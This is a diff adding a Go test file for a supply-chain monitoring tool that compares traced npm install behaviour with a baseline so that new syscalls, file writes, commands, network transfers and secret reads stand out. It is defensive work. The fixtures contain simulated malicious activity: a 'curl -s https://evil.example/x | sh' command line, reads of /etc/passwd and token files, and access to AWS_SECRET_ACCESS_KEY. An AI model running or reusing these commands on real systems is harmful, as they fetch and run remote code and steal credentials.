@@ -0,0 +1,227 @@
+package aggregate
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestDedupSyscallThreshold(t *testing.T) {
+	stats := func(syscalls map[string]int) *PerProcessStats {
+		return &PerProcessStats{PerProcess: map[string]*ProcessSummary{
+			"node": {SyscallProfile: syscalls, FileAccess: map[string]int{}, ExecutedCommands: map[string]int{}},
+		}}
+	}
+	baseline := stats(map[string]int{"openat": 1187, "read": 40, "connect": 2})
+	target := stats(map[string]int{
+		"openat":  1203, // jitter: +16
+		"read":    120,  // 3x but Δ 80
+		"connect": 60,   // 30x but only Δ 58
+		"ptrace":  1,    // never seen in the baseline
+	})
+
+	deduped := Dedup(target, baseline)
+	assert.Equal(t, map[string]int{"read": 80, "connect": 58, "ptrace": 1}, deduped.PerProcess["node"].SyscallProfile)
+	assert.Equal(t, 1, deduped.RemovedSyscalls)
+
+	strict := DedupWithThreshold(target, baseline, SyscallThreshold{Ratio: 2, MinDelta: 60})
+	assert.Equal(t, map[string]int{"read": 80, "ptrace": 1}, strict.PerProcess["node"].SyscallProfile)
+
+	// The zero threshold keeps any increase
+	loose := DedupWithThreshold(target, baseline, SyscallThreshold{})
+	assert.Equal(t, 16, loose.PerProcess["node"].SyscallProfile["openat"])
+}
+
+func TestRemovedShare(t *testing.T) {
+	target := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": newProcessSummary(), "curl": newProcessSummary()}}
+	target.PerProcess["node"].FileAccess = map[string]int{"/test/package.json": 1, "/usr/lib/node_modules/npm/index.js": 1, "/etc/passwd": 1}
+	target.PerProcess["curl"].NetworkActivity.DNSRecords = map[string]int{"evil.example": 1}
+	baseline := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": newProcessSummary()}}
+	baseline.PerProcess["node"].FileAccess = map[string]int{"/test/package.json": 1, "/usr/lib/node_modules/npm/index.js": 1}
+
+	deduped := Dedup(target, baseline)
+	share, ok := RemovedShare(target, deduped)
+	require.True(t, ok)
+	assert.InDelta(t, 0.5, share, 1e-9)
+	assert.InDelta(t, 0.5, deduped.BaselineRemoved, 1e-9)
+
+	_, ok = RemovedShare(&PerProcessStats{}, deduped)
+	assert.False(t, ok, "nothing traced, nothing to measure")
+}
+
+func TestDedupCommandLines(t *testing.T) {
+	const events = `
+{"processId":2,"parentProcessId":1,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","node-gyp rebuild"]}]}
+{"processId":3,"parentProcessId":1,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","curl -s https://evil.example/x | sh"]}]}
+`
+	target, err := NewProcessAggregator().ProcessReader(strings.NewReader(events), "target")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]int{"sh -c node-gyp rebuild": 1, "sh -c curl -s https://evil.example/x | sh": 1}, target.PerProcess["sh"].CommandLines)
+
+	baseline := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"sh": newProcessSummary()}}
+	baseline.PerProcess["sh"].ExecutedCommands["/bin/sh"] = 1
+	baseline.PerProcess["sh"].CommandLines = map[string]int{"sh -c node-gyp rebuild": 1}
+
+	result := Dedup(target, baseline)
+	require.Contains(t, result.PerProcess, "sh")
+	assert.Equal(t, map[string]int{"sh -c curl -s https://evil.example/x | sh": 1}, result.PerProcess["sh"].CommandLines)
+
+	// Baselines recorded before command lines were can't tell new ones apart
+	baseline.PerProcess["sh"].CommandLines = nil
+	result = Dedup(target, baseline)
+	if proc, ok := result.PerProcess["sh"]; ok {
+		assert.Empty(t, proc.CommandLines)
+	}
+
+	assert.Len(t, commandLine([]string{"node", "-e", strings.Repeat("A", 2*maxCommandLine)}), maxCommandLine+len("..."))
+}
+
+func TestDedupFileWrites(t *testing.T) {
+	target := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": newProcessSummary()}}
+	target.PerProcess["node"].FileAccess = map[string]int{"/root/.bashrc": 1, "/root/.cache/x": 1}
+	target.PerProcess["node"].FileWrites = map[string]int{"/root/.bashrc": 1, "/root/.cache/x": 1}
+
+	baseline := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": newProcessSummary()}}
+	baseline.PerProcess["node"].FileAccess = map[string]int{"/root/.bashrc": 1, "/root/.cache/x": 1}
+	baseline.PerProcess["node"].FileWrites = map[string]int{"/root/.cache/x": 1}
+
+	// The baseline only read .bashrc, so writing it is new
+	result := Dedup(target, baseline)
+	require.Contains(t, result.PerProcess, "node")
+	assert.Empty(t, result.PerProcess["node"].FileAccess)
+	assert.Equal(t, map[string]int{"/root/.bashrc": 1}, result.PerProcess["node"].FileWrites)
+
+	// Against baselines predating open flags, only writes of new files are kept
+	baseline.PerProcess["node"].FileWrites = nil
+	delete(baseline.PerProcess["node"].FileAccess, "/root/.cache/x")
+	result = Dedup(target, baseline)
+	require.Contains(t, result.PerProcess, "node")
+	assert.Equal(t, map[string]int{"/root/.cache/x": 1}, result.PerProcess["node"].FileWrites)
+}
+
+func TestDedupTransfers(t *testing.T) {
+	stats := func(transfers map[string]Transfer) *PerProcessStats {
+		summary := newProcessSummary()
+		summary.NetworkActivity.Transfers = transfers
+		return &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": summary}}
+	}
+	baseline := stats(map[string]Transfer{"104.16.0.35:443": {BytesSent: 2048, BytesReceived: 300000}})
+
+	// A slightly larger registry request, and a health-check ping
+	result := Dedup(stats(map[string]Transfer{
+		"104.16.0.35:443": {BytesSent: 6000, BytesReceived: 310000},
+	}), baseline)
+	assert.Empty(t, result.PerProcess)
+
+	// Uploading a home directory to the same host, and anything to a new one
+	result = Dedup(stats(map[string]Transfer{
+		"104.16.0.35:443": {BytesSent: 4 << 20, BytesReceived: 300000},
+		"203.0.113.9:443": {BytesSent: 512, BytesReceived: 64},
+	}), baseline)
+	require.Contains(t, result.PerProcess, "node")
+	assert.Equal(t, map[string]Transfer{
+		"104.16.0.35:443": {BytesSent: 4 << 20, BytesReceived: 300000},
+		"203.0.113.9:443": {BytesSent: 512, BytesReceived: 64},
+	}, result.PerProcess["node"].NetworkActivity.Transfers)
+}
+
+func TestDedupEnvAccess(t *testing.T) {
+	stats := func(env *EnvAccess) *PerProcessStats {
+		summary := newProcessSummary()
+		summary.EnvAccess = env
+		return &PerProcessStats{PerProcess: map[string]*ProcessSummary{"node": summary}}
+	}
+	baseline := stats(&EnvAccess{
+		Environ: map[string]int{"/proc/41/environ": 1},
+		Secrets: map[string]int{"NODE_AUTH_TOKEN": 1},
+	})
+
+	result := Dedup(stats(&EnvAccess{
+		Environ: map[string]int{"/proc/97/environ": 2},
+		Secrets: map[string]int{"NODE_AUTH_TOKEN": 1},
+	}), baseline)
+	assert.Empty(t, result.PerProcess, "PIDs differ between runs")
+
+	result = Dedup(stats(&EnvAccess{
+		Environ: map[string]int{"/proc/97/environ": 1, "/proc/self/environ": 1},
+		Secrets: map[string]int{"NODE_AUTH_TOKEN": 1, "AWS_SECRET_ACCESS_KEY": 1},
+	}), baseline)
+	require.Contains(t, result.PerProcess, "node")
+	assert.Equal(t, &EnvAccess{
+		Environ: map[string]int{"/proc/self/environ": 1},
+		Secrets: map[string]int{"AWS_SECRET_ACCESS_KEY": 1},
+	}, result.PerProcess["node"].EnvAccess)
+}
+
+func TestDedupNormalizesPaths(t *testing.T) {
+	stats := func(files, commands map[string]int) *PerProcessStats {
+		return &PerProcessStats{PerProcess: map[string]*ProcessSummary{
+			"node": {SyscallProfile: map[string]int{}, FileAccess: files, ExecutedCommands: commands},
+		}}
+	}
+	baseline := stats(
+		map[string]int{"/tmp/npm-987-XyZwVu/package.json": 2, "/proc/4242/status": 1, "/etc/passwd": 1},
+		map[string]int{"/tmp/tmp.aB3dE9/node": 1},
+	)
+	target := stats(
+		map[string]int{
+			"/tmp/npm-1234-AbCdEf/package.json": 2,
+			"/proc/77/status":                   1,
+			"/etc/passwd":                       500, // read in a loop
+			"/root/.cache/1b4e28ba-2fa1-11d2-883f-0016d3cca427/token": 1,
+			"/tmp/payload.sh": 1,
+		},
+		map[string]int{"/tmp/tmp.Qr7sT1/node": 1},
+	)
+
+	deduped := Dedup(target, baseline)
+	assert.Equal(t, map[string]int{
+		"/etc/passwd": 500,
+		"/root/.cache/1b4e28ba-2fa1-11d2-883f-0016d3cca427/token": 1,
+		"/tmp/payload.sh": 1,
+	}, deduped.PerProcess["node"].FileAccess)
+	assert.Equal(t, 2, deduped.RemovedFiles)
+	assert.Equal(t, 1, deduped.RemovedCommands)
+
+	// The zero access threshold drops everything the baseline has
+	strict := DedupWithThresholds(target, baseline, DefaultSyscallThreshold, AccessThreshold{})
+	assert.NotContains(t, strict.PerProcess["node"].FileAccess, "/etc/passwd")
+}
+
+func TestNormalizePath(t *testing.T) {
+	for in, want := range map[string]string{
+		"/tmp/npm-1234-AbCdEf/x":                                     "/tmp/npm-<rand>-<rand>/x",
+		"/var/tmp/cache/index.json":                                  "/var/tmp/cache/index.json",
+		"/proc/123/cmdline":                                          "/proc/<pid>/cmdline",
+		"/run/1b4e28ba-2fa1-11d2-883f-0016d3cca427.pid":              "/run/<uuid>.pid",
+		"/root/.npm/_cacache/content-v2/sha512/0123456789abcdef0123": "/root/.npm/_cacache/content-v2/sha512/<hex>",
+		"sh -c rm -rf /tmp/build-42 && echo done":                    "sh -c rm -rf /tmp/build-<rand> && echo done",
+	} {
+		assert.Equal(t, want, NormalizePath(in), in)
+	}
+}
+
+func TestBundledBaselineKeyMode(t *testing.T) {
+	// Keyed like the default PROCESS_KEY, so the baseline isn't folded to
+	// bare names and a shell spawned by an install script stays visible
+	baseline, err := LoadPerProcessStats("../../safe-sample.json")
+	require.NoError(t, err)
+	assert.Equal(t, KeyAncestry, baseline.KeyMode)
+
+	script := summary(map[string]int{"/etc/ld.so.cache": 1}, map[string]int{})
+	target := &PerProcessStats{
+		KeyMode: KeyAncestry,
+		PerProcess: map[string]*ProcessSummary{
+			"sh":                     script,
+			"sh>npm install>sh":      script,
+			"sh>npm install>sh>node": script,
+		},
+	}
+
+	deduped := Dedup(target, baseline)
+	assert.NotContains(t, deduped.PerProcess, "sh", "the workflow's own shell is in the baseline")
+	assert.Contains(t, deduped.PerProcess, "sh>npm install>sh")
+	assert.Contains(t, deduped.PerProcess, "sh>npm install>sh>node")
+}